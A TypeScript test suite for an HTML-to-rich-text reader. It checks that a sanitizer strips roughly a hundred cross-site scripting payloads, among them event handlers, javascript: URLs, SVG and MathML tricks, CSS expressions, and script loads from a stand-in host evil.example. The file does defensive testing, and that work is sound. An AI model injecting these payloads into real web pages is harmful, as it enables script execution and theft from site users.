import { richNodes } from '../../../shared/contracts/rich-nodes'
import { plainText } from '../../../shared/domain/rich-text'
import { readHtml } from './read-html'

// In every trial `evil` stands where it would run, load or lead somewhere, and `水` where a reader reads. Of each kind
// that a cheat-sheet of such attacks lists, one or more; none may leave anything but words.

const TRIALS: Record<string, readonly string[]> = {
  'a script': [
    '水<script>evil()</script>',
    '水<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '水<script/evil src="data:text/javascript,evil()"></script>',
    '水<<script>evil();//<</script>',
    '水<script <b>evil()</script>',
    '水<script>/*<b>*/evil()/*</b>*/</script >',
    '水<script type="module">import "//evil.example"</script>',
    '水<script\u0000>evil()</script>',
    '水<script\n>evil()</script\t>',
    '水<svg:script>evil()</svg:script>',
    '水<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>',
  ],
  'a handler on an element': [
    '<p onclick="evil()">水</p>',
    '<b onmouseover=evil()>水</b>',
    '<b ONMOUSEOVER=`evil()`>水</b>',
    '<p/onclick=evil()>水</p>',
    '<p onclick\u00a0="evil()">水</p>',
    '<p onclick\n=\n"evil()">水</p>',
    '<div onpointerrawupdate="evil()" style="position:fixed">水</div>',
    '<details open ontoggle=evil()><p>水</p></details>',
    '<p tabindex=1 onfocus=evil() autofocus>水</p>',
    '<p style="animation:x" onanimationstart="evil()">水</p>',
    '<xss onbeforescriptexecute=evil()>水</xss>',
    '<p "onclick=evil()">水</p>',
    '<p a="b\'" onclick="evil()" c=\'d\'>水</p>',
    '<body onload=evil()>水',
    '<html onscroll="evil()">水',
  ],
  'a picture': [
    '水<img src=x onerror=evil()>',
    '水<IMG """><SCRIPT>evil()</SCRIPT>">',
    '水<img src="javascript:evil()">',
    '水<img src=&#106;&#97;&#118;&#97;&#115;&#99;evil()>',
    '水<img src="jav\tascript:evil()">',
    '水<img src="jav&#x0A;ascript:evil()">',
    '水<img dynsrc="javascript:evil()" lowsrc="javascript:evil()">',
    '水<img srcset="//evil.example 1x">',
    '水<image src=x onerror=evil()>',
    '水<picture><source srcset=//evil.example><img src=//evil.example></picture>',
    '水<input type=image src=//evil.example onerror=evil()>',
    '水<video poster=//evil.example><source onerror=evil()></video>',
    '水<audio src=x onerror=evil()></audio>',
    '水<img src=x onerror=evil() <p>',
  ],
  'a link': [
    '<a href="javascript:evil()">水</a>',
    '<a href="JaVaScRiPt:evil()">水</a>',
    '<a href=" &#14; javascript:evil()">水</a>',
    '<a href="data:text/html,<script>evil()</script>">水</a>',
    '<a href="vbscript:evil()">水</a>',
    '<a href="//evil.example" target=_blank>水</a>',
    '<a href="weixin://evil">水</a>',
    '<a xlink:href="javascript:evil()">水</a>',
    '<a ping="//evil.example" href="#">水</a>',
    '水<area href="javascript:evil()">',
    '水<base href="//evil.example">',
    '水<link rel=stylesheet href="//evil.example">',
    '水<link rel=import href="data:text/html,evil()">',
  ],
  'a frame or an object': [
    '水<iframe src="javascript:evil()"></iframe>',
    '水<iframe srcdoc="<script>evil()</script>"></iframe>',
    '水<iframe/onload=evil()>',
    '水<frameset><frame src="javascript:evil()"></frameset>',
    '水<object data="javascript:evil()"><param name=x value=evil></object>',
    '水<object type=text/x-scriptlet data=//evil.example>evil</object>',
    '水<embed src="//evil.example/x.swf" allowscriptaccess=always>',
    '水<applet code=evil archive=evil></applet>',
    '水<portal src="javascript:evil()"></portal>',
  ],
  'a drawing or a formula': [
    '水<svg onload=evil()>',
    '水<svg><script>evil()</script></svg>',
    '水<svg><script href="data:,evil()"/></svg>',
    '水<svg><animate onbegin=evil() attributeName=x></svg>',
    '水<svg><a xlink:href="javascript:evil()"><text>evil</text></a></svg>',
    '水<svg><foreignObject><p onclick=evil()>evil</p></foreignObject></svg>',
    '水<svg><style><img src=x onerror=evil()></style></svg>',
    '水<svg><use href="data:image/svg+xml,evil"/></svg>',
    '水<math><maction xlink:href="javascript:evil()">evil</maction></math>',
    '水<math><mtext><table><mglyph><style><img src=x onerror=evil()>',
    '水<math href="javascript:evil()">evil</math>',
  ],
  'a style': [
    '<p style="background:url(javascript:evil())">水</p>',
    '<p style="width: expression(evil())">水</p>',
    '<p style="behavior:url(evil.htc)">水</p>',
    '<p style="-moz-binding:url(//evil.example)">水</p>',
    '水<style>@import "//evil.example";</style>',
    '水<style>p{background:url("javascript:evil()")}</style>',
    '水<style><!--</style><img src=x onerror=evil()>--></style>',
    '<p class="evil" id="evil">水</p>',
  ],
  'a form': [
    '水<form action="javascript:evil()"><input type=submit value=evil></form>',
    '水<form><button formaction="javascript:evil()">evil</button></form>',
    '水<isindex action="javascript:evil()" type=image>',
    '水<textarea><script>evil()</script></textarea>',
    '水<select><option><script>evil()</script></option></select>',
    '水<keygen autofocus onfocus=evil()>',
    '水<input onfocus=evil() autofocus>',
  ],
  'what is not read as text': [
    '水<!--<img src="--><img src=x onerror=evil()>-->'.replace('-->', ' '),
    '水<!--[if gte IE 4]><script>evil()</script><![endif]-->',
    '水<![CDATA[<script>evil()</script>]]>',
    '水<?xml version="1.0"?><?php evil() ?>',
    '水<!DOCTYPE html [<!ENTITY x "evil">]>',
    '水<xml id=x><i><b><![CDATA[<img src=x onerror=evil()>]]></b></i></xml>',
    '水<template><script>evil()</script></template>',
    '水<title><script>evil()</script></title>',
    '水<xmp><script>evil()</script></xmp>',
    '水<noembed><script>evil()</script></noembed>',
    '水<meta http-equiv=refresh content="0;url=javascript:evil()">',
    '水<plaintext><script>evil()',
    '水<marquee onstart=evil()>evil</marquee>',
    '水<dialog open onclose=evil()>evil</dialog>',
  ],
  'an end that never comes': [
    '水<script>evil()',
    '水<img src=x onerror=evil()',
    '水<a href="javascript:evil()',
    '水<style>evil',
    '水<iframe src=evil',
    '水<!-- evil',
    '水<p onclick="evil()',
  ],
}

const trials = Object.entries(TRIALS).flatMap(([kind, list]) => list.map((html): [string, string] => [kind, html]))

/** Every object in a value. */
function* objectsIn(value: unknown): Generator<object> {
  if (typeof value !== 'object' || value === null) return
  if (!Array.isArray(value)) yield value
  for (const inner of Object.values(value)) yield* objectsIn(inner)
}

test.each(trials)('of %s only words are left: %s', (_, html) => {
  const nodes = readHtml(html)
  expect(plainText(nodes)).toContain('水')
  expect(JSON.stringify(nodes)).not.toContain('evil')
  for (const one of objectsIn(nodes)) {
    for (const key of Object.keys(one)) expect(['block', 'children', 'items', 'rows', 'mark', 'text']).toContain(key)
  }
  expect(richNodes.parse(nodes)).toEqual(nodes)
})

test('what only looks like an element is words, and stays words', () => {
  expect(readHtml('水 &lt;script&gt;evil()&lt;/script&gt;')).toEqual([
    { block: 'paragraph', children: [{ text: '水 <script>evil()</script>' }] },
  ])
  expect(plainText(readHtml('水<scr<script>ipt>evil()</script>'))).toBe('水ipt>evil()')
  expect(plainText(readHtml('1 < 2，3 &gt; 2 & 水'))).toBe('1 < 2，3 > 2 & 水')
})

test('names that every object has are no elements of ours', () => {
  for (const name of ['constructor', 'tostring', 'valueof', 'hasownproperty']) {
    expect(readHtml(`<${name}>水</${name}>`)).toEqual([{ block: 'paragraph', children: [{ text: '水' }] }])
  }
})

test('nothing turns the direction of what is read, or hides in it', () => {
  expect(plainText(readHtml('水\u202eabc\u2066\u0000\u0007'))).toBe('水abc')
})
